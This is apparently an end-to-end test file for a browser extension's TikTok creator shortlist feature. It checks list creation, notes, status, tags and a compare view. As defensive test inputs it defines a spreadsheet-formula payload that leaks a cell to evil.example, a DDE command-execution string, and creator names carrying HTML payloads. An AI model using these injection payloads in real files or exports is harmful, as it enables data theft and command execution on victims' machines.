/**
 * Shortlists in a real browser: creators read from Castlist's own TikTok sample pages (one whose name carries HTML
 * payloads, tests/fixtures/hostile/hostile-pages.ts) are added from the panel to a list whose name and notes carry
 * spreadsheet-formula payloads; the background freezes their KPIs when they are added; the compare view shows them.
 *
 * Not driven here: the context-menu entry and the keyboard command (a browser menu and a browser-level shortcut are
 * out of a page's reach in headless Chromium); tests/unit/shortlist-add-from-page.test.ts drives their listeners.
 */
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { HOSTILE_CREATOR, HOSTILE_URLS, hostileSamples } from '../fixtures/hostile/hostile-pages';
import { COOK } from '../fixtures/tiktok/sample-data';
import { rowsOf } from './idb';
import { useExtensionBrowser, waitForSnapshots } from './support';

const session = useExtensionBrowser(hostileSamples);

export const LIST_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Spring")';
export const NOTES = "+cmd|' /C calc'!A0 — great fit, call Monday";
const COOK_URL = `https://www.tiktok.com/@${COOK.handle}`;
const COOK_KEY = `tiktok:${COOK.handle}`;
const HOSTILE_KEY = `tiktok:${HOSTILE_CREATOR.handle}`;

interface StoredEntry {
  creatorKey: string;
  shortlistId: string;
  status: string;
  notes: string;
  kpisAtAdd: { followers: { value: number } | null; tier: string | null } | null;
}

const panelUrl = (query: Record<string, string>) => `chrome-extension://${session.browser.extensionId}/sidepanel.html?${new URLSearchParams(query)}`;

async function openPanel(query: Record<string, string>): Promise<Page> {
  const panel = await session.browser.context.newPage();
  await panel.goto(panelUrl(query));
  return panel;
}

describe('shortlists, end to end', () => {
  test('the creators of two profiles are read and stored', async () => {
    for (const [url, key] of [
      [COOK_URL, COOK_KEY],
      [HOSTILE_URLS.tiktokProfile, HOSTILE_KEY],
    ] as const) {
      const page = await session.browser.context.newPage();
      await page.goto(url);
      // The page stays open until its reading is stored: closing it first may lose the content script's send.
      await waitForSnapshots(session.browser, `creator:${key}`);
      await page.close();
    }
  });

  test('a list is made in the panel and the tab\'s creator added, with the KPIs of the moment frozen', async () => {
    const panel = await openPanel({ view: 'shortlists', url: COOK_URL });
    await panel.getByLabel('Name your first list').fill(LIST_NAME);
    await panel.getByRole('button', { name: 'Create list' }).click();
    await panel.getByRole('button', { name: `Add to “${LIST_NAME}”` }).click();
    await panel.getByText(`✓ On “${LIST_NAME}”`).waitFor();

    // The same panel, following another tab: the hostile creator, added to the same (last-used) list.
    await panel.goto(panelUrl({ view: 'shortlists', url: HOSTILE_URLS.tiktokProfile }));
    await panel.getByRole('button', { name: `Add to “${LIST_NAME}”` }).click();
    await panel.getByText(`✓ On “${LIST_NAME}”`).waitFor();

    const worker = await session.browser.serviceWorker();
    const lists = await rowsOf<{ id: string; name: string }>(worker, 'shortlists');
    expect(lists.map((list) => list.name)).toEqual([LIST_NAME]);
    const entries = await rowsOf<StoredEntry>(worker, 'shortlistEntries');
    expect(entries.map((entry) => entry.creatorKey).sort()).toEqual([COOK_KEY, HOSTILE_KEY].sort());
    const cook = entries.find((entry) => entry.creatorKey === COOK_KEY)!;
    expect(cook).toMatchObject({ shortlistId: lists[0]!.id, status: 'candidate' });
    expect(cook.kpisAtAdd?.followers?.value).toBe(COOK.followers);
    await panel.close();
  });

  test('notes, status and tags are changed in the panel and stored as typed', async () => {
    const panel = await openPanel({ view: 'shortlists' });
    const entry = panel.getByRole('listitem', { name: HOSTILE_CREATOR.name });
    await entry.getByRole('button', { name: 'Details' }).click();
    await entry.getByLabel('Notes').fill(NOTES);
    await entry.getByLabel('Notes').blur();
    await entry.getByLabel(`Status of ${HOSTILE_CREATOR.name}`).selectOption('negotiating');
    await entry.getByLabel('Tags', { exact: true }).fill('@risky');
    await entry.getByLabel('Tags', { exact: true }).press('Enter');
    const worker = await session.browser.serviceWorker();
    await expect
      .poll(async () => (await rowsOf<StoredEntry & { tags: string[] }>(worker, 'shortlistEntries')).find((stored) => stored.creatorKey === HOSTILE_KEY), { timeout: 15_000 })
      .toMatchObject({ notes: NOTES, status: 'negotiating', tags: ['@risky'] });
    // The name's HTML payload is text in the panel.
    expect(await entry.locator('.entry-name').textContent()).toBe(HOSTILE_CREATOR.name);
    await panel.close();
  });

  test('the compare view shows both creators, sortable by followers', async () => {
    const panel = await openPanel({ view: 'compare' });
    await panel.getByText('2 creators', { exact: true }).waitFor({ timeout: 15_000 });
    await panel.getByRole('columnheader', { name: /Followers/ }).getByRole('button').click();
    const names = await panel.locator('.compare-table tbody th[scope="row"] > :first-child').allTextContents();
    const byFollowers = [
      { name: COOK.name, followers: COOK.followers },
      { name: HOSTILE_CREATOR.name, followers: HOSTILE_CREATOR.followers },
    ].sort((a, b) => b.followers - a.followers);
    expect(names).toEqual(byFollowers.map((creator) => creator.name));
    await panel.close();
  });
});
